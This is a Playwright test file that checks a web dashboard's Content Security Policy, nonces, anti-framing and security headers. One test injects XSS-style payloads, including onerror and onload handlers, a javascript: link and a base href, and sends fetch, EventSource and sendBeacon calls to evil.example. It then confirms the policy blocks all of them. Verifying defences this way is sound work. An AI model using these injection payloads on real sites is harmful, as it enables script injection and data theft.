import type { Page } from "@playwright/test";
import { startHttpServer } from "@/lib/testing/http-server";
import { request } from "./api";
import { expect, test } from "./fixtures";
import { injections, injectInto } from "./injected-markup";
import type { TestServer } from "./server";

interface Violation {
  directive: string;
  blocked: string;
  sample: string;
}

/** Collects what the browser refuses to the page, from its first byte on. */
async function collectViolations(page: Page): Promise<() => Promise<Violation[]>> {
  await page.addInitScript(() => {
    const violations: Violation[] = [];
    Reflect.set(window, "__violations", violations);
    document.addEventListener("securitypolicyviolation", (event) =>
      violations.push({
        directive: event.effectiveDirective,
        blocked: event.blockedURI,
        sample: event.sample,
      }),
    );
  });
  return () => page.evaluate(() => Reflect.get(window, "__violations") as Violation[]);
}

async function open(page: Page, server: TestServer, path: string, heading: string): Promise<void> {
  await page.goto(`${server.url}${path}`);
  await expect(page.getByRole("heading", { level: 1, name: heading })).toBeVisible();
  await expect(page.locator("main [aria-busy=true]")).toHaveCount(0);
}

/** One of each thing that libraries make: grids, charts, editors, lists to drag, forms, dialogs. */
const pages = [
  ["/", "Home"],
  ["/jobs", "Jobs"],
  ["/jobs/nightly-etl", "nightly-etl"],
  ["/jobs/nightly-etl/edit", "Edit nightly-etl"],
  ["/runs", "Runs"],
  ["/templates", "Templates"],
  ["/templates/new?from=built-in-slack", "New template"],
  ["/notifications", "Notifications"],
  ["/statistics?of=jobs&period=month", "Statistics"],
  ["/inbox", "Test inbox"],
  ["/preferences", "My preferences"],
  ["/rules/job.failed", "Job failed"],
  ["/channels/new?kind=slack", "Add channel: Slack"],
  ["/escalations/on-call/new", "Add rotation"],
  ["/settings/branding", "Branding"],
  ["/settings/general?tab=json", "General settings"],
  ["/system", "System"],
] as const;

test("no page asks for anything that its policy refuses", async ({ page, server, signIn }) => {
  test.setTimeout(180_000);
  const violations = await collectViolations(page);
  const misunderstood: string[] = [];
  page.on("console", (message) => {
    if (/header/i.test(message.text())) misunderstood.push(message.text());
  });
  await signIn();

  for (const [path, heading] of pages) {
    await open(page, server, path, heading);
    expect(await violations(), path).toEqual([]);
  }
  await page.goto(`${server.url}/sign-in`);
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  expect(await violations()).toEqual([]);
  expect(misunderstood, "what the browser says about headers").toEqual([]);
});

test("what moves and draws does so under the policy", async ({ page, server, signIn }) => {
  test.slow();
  const violations = await collectViolations(page);
  const sent = await request<{ id: string }>(server, "POST", "/api/v1/notifications", {
    recipient: "somebody@example.org",
    subject: "Styled",
    body_html:
      '<style>.own { color: rgb(1, 2, 3) }</style><p class="own" style="margin-top: 7px">Own colours</p>',
  });
  expect(sent.status, JSON.stringify(sent.body)).toBe(202);
  await signIn();

  // A mail's own style sheet and its style attributes count in the preview.
  await open(page, server, "/inbox", "Test inbox");
  await page.getByText("Styled").first().click();
  const mail = page.frameLocator("iframe").getByText("Own colours");
  await expect(mail).toHaveCSS("color", "rgb(1, 2, 3)");
  await expect(mail).toHaveCSS("margin-top", "7px");

  // The editor is laid out by its own style sheet.
  await open(page, server, "/templates/new?from=blank-email", "New template");
  const editor = page.getByRole("textbox", { name: "Mail HTML" });
  await editor.click();
  await page.keyboard.insertText("<p>{{ job.name }}</p>");
  await expect(page.locator(".cm-editor").first()).toHaveCSS("position", "relative");

  // The grid's variables are in a style sheet that it makes.
  await page.setViewportSize({ width: 1440, height: 900 });
  await open(page, server, "/jobs", "Jobs");
  const grid = page.getByRole("grid", { name: "Jobs" });
  await expect(grid.getByRole("row").nth(1)).toBeVisible();
  expect(
    await grid.evaluate((element) => {
      const dressed =
        element.closest("[class*=MuiDataGridVariables]") ??
        element.querySelector("[class*=MuiDataGridVariables]");
      return dressed
        ? getComputedStyle(dressed).getPropertyValue("--DataGrid-t-spacing-unit")
        : "no such grid";
    }),
  ).not.toBe("");
  expect(await violations()).toEqual([]);
});

test.describe("what somebody smuggled into a page", () => {
  test.use({ expectedRefusals: /Content Security Policy|Refused to|violates the following/ });

  test("does not run, does not evaluate, and sends nothing away", async ({ page, server, signIn }) => {
    const violations = await collectViolations(page);
    const left: string[] = [];
    page.on("request", (asked) => {
      if (!asked.url().startsWith(server.url)) left.push(asked.url());
    });
    await signIn();

    await page.evaluate(() => {
      const hit = (name: string) => `(window.__hits ??= []).push('${name}')`;
      const smuggle = () => {
        const markup = document.createElement("div");
        markup.innerHTML = [
          `<img src="data:,x" onerror="${hit("onerror")}">`,
          `<svg onload="${hit("onload")}"></svg>`,
          `<a id="smuggled" href="javascript:${hit("link")}">go</a>`,
          `<iframe src="https://evil.example/frame"></iframe>`,
          `<object data="https://evil.example/object"></object>`,
          `<style>body { background: url("https://evil.example/style") }</style>`,
          `<form id="away" action="https://evil.example/form"><input name="a"></form>`,
          `<base href="https://evil.example/">`,
        ].join("");
        document.body.append(markup);
        document.getElementById("smuggled")?.click();
        document.querySelector<HTMLFormElement>("#away")?.submit();
        fetch("https://evil.example/fetch").catch(() => undefined);
        new EventSource("https://evil.example/events").close();
        navigator.sendBeacon("https://evil.example/beacon");
        setTimeout(hit("timer"), 0);
        try {
          new Function(hit("function"))();
        } catch {
          Reflect.set(window, "__refusedToEvaluate", true);
        }
      };
      // Not at once: what the test itself runs may do more than a page may.
      setTimeout(smuggle, 0);
    });
    await expect
      .poll(() => page.evaluate(() => Reflect.get(window, "__refusedToEvaluate") as unknown))
      .toBe(true);
    await expect.poll(async () => (await violations()).length).toBeGreaterThanOrEqual(8);

    const refused = new Set((await violations()).map(({ directive }) => directive));
    for (const directive of [
      "script-src-elem",
      "script-src-attr",
      "script-src",
      "style-src-elem",
      "connect-src",
      "base-uri",
      "form-action",
    ])
      expect([...refused]).toContain(directive);
    expect(await page.evaluate(() => Reflect.get(window, "__hits") as unknown)).toBeUndefined();
    expect(await page.evaluate(() => document.baseURI)).toContain(server.url);
    expect(left).toEqual([]);
  });

  for (const path of ["/sign-in", "/jobs"])
    test(`runs in the HTML of ${path} without the policy, and not with it`, async ({
      page,
      server,
      signIn,
    }) => {
      if (path !== "/sign-in") await signIn();

      expect(await injectInto(page, `${server.url}${path}`, { withPolicy: false })).toEqual(injections);
      expect(await injectInto(page, `${server.url}${path}`, { withPolicy: true })).toEqual([]);
    });

  test("shows none of our pages in a frame of another site's", async ({ page, server }) => {
    const address = `${server.url}/sign-in`;
    const elsewhere = await startHttpServer((_, response) =>
      response.setHeader("content-type", "text/html").end(`<iframe src="${address}"></iframe>`),
    );
    const heading = page.frameLocator("iframe").getByRole("heading", { level: 1 });

    await page.goto(elsewhere.url);
    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
    await expect(heading).toHaveCount(0);

    // Each header alone is enough, and it is they that do it.
    for (const [removed, isShown] of [
      [["content-security-policy"], false],
      [["x-frame-options"], false],
      [["content-security-policy", "x-frame-options"], true],
    ] as const) {
      await page.route(address, async (route) => {
        const answer = await route.fetch();
        const headers = Object.entries(answer.headers()).filter(
          ([name]) => !removed.some((it) => it === name),
        );
        await route.fulfill({ response: answer, headers: Object.fromEntries(headers) });
      });
      await page.goto(elsewhere.url);
      if (isShown) await expect(heading).toBeVisible();
      else await expect.poll(() => page.frames()[1]?.url(), removed.join()).toMatch(/^chrome-error:/);
      await page.unrouteAll({ behavior: "wait" });
    }
    await elsewhere.close();
  });
});

test("each answer has a nonce of its own, and every script of the page carries it", async ({ server }) => {
  const read = async () => {
    const answer = await fetch(`${server.url}/sign-in`);
    const policy = answer.headers.get("content-security-policy") ?? "";
    const [, nonce = "none"] = /script-src [^;]*'nonce-([\w-]+)'/.exec(policy) ?? [];
    return { policy, nonce, html: await answer.text() };
  };
  const one = await read();
  const other = await read();

  expect(one.policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline/);
  expect(other.nonce).not.toBe(one.nonce);
  const scripts = one.html.match(/<script[^>]*>/g) ?? [];
  expect(scripts.length).toBeGreaterThan(3);
  expect(scripts.filter((tag) => !tag.includes(`nonce="${one.nonce}"`))).toEqual([]);
});

test("every kind of answer has its headers, and none says what made it", async ({ server }) => {
  const headersOf = async (path: string) => (await fetch(`${server.url}${path}`)).headers;
  const html = await (await fetch(`${server.url}/sign-in`)).text();
  const [file = ""] = /\/_next\/static\/[^"]+\.js/.exec(html) ?? [];

  for (const path of ["/sign-in", "/api/v1/me", "/api/auth/session", "/livez", "/nothing", file]) {
    const headers = await headersOf(path);
    expect(headers.get("x-content-type-options"), path).toBe("nosniff");
    expect(headers.get("x-frame-options"), path).toBe("DENY");
    expect(headers.get("referrer-policy"), path).toBe("same-origin");
    expect(headers.get("cross-origin-opener-policy"), path).toBe("same-origin");
    expect(headers.get("cross-origin-resource-policy"), path).toBe("same-origin");
    expect(headers.get("permissions-policy"), path).toContain("camera=()");
    expect(headers.get("x-powered-by"), path).toBeNull();
    expect(headers.get("access-control-allow-origin"), path).toBeNull();
  }
  for (const path of ["/api/v1/me", "/api/auth/session", "/livez"])
    expect((await headersOf(path)).get("content-security-policy"), path).toContain("default-src 'none'");
  // A mail program in a browser shows it from another site.
  const logo = await headersOf(`/branding/0193a1b2-0000-7000-8000-000000000001/${"a".repeat(64)}.png`);
  expect(logo.get("cross-origin-resource-policy")).toBe("cross-origin");
});
